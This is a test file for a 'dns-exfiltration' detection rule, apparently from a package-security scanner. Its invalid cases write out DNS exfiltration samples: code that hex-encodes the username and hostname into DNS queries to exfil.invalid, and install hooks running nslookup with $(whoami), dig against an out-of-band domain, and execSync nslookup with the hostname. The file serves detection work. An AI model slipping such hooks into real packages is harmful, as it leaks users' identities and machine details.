import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/dns-exfiltration.ts'

new RuleTester().run(rule, {
  valid: [
    "const dns = require('dns'); module.exports = (o) => dns.resolveSrv('_mongodb._tcp.' + o.srvHost, () => {})",
    "const dns = require('dns'); dns.lookup('registry.npmjs.org', () => {})",
    { name: 'nslookup of a fixed name', manifest: { name: 'a', version: '1.0.0', scripts: { postinstall: 'nslookup example.invalid' } } },
  ],
  invalid: [
    {
      name: 'hex labels of user and host',
      code: "const dns = require('dns'); const os = require('os'); const d = Buffer.from(os.userInfo().username + '|' + os.hostname()).toString('hex'); for (let i = 0; i < d.length; i += 60) dns.resolve4(d.slice(i, i + 60) + '.exfil.invalid', () => {})",
      errors: [{ message: 'DNS exfiltration' }],
    },
    { name: 'nslookup of $(whoami)', manifest: { name: 'a', version: '1.0.0', scripts: { preinstall: 'nslookup $(whoami).u.exfil.invalid' } }, errors: [{ file: 'package.json' }] },
    { name: 'dig under an OOB domain', manifest: { name: 'a', version: '1.0.0', scripts: { install: 'dig abc.oastify.com' } }, errors: 1 },
    {
      name: 'nslookup with host data from code',
      code: "const { execSync } = require('child_process'); const os = require('os'); execSync('nslookup ' + os.hostname() + '.x.exfil.invalid')",
      errors: 1,
    },
  ],
})
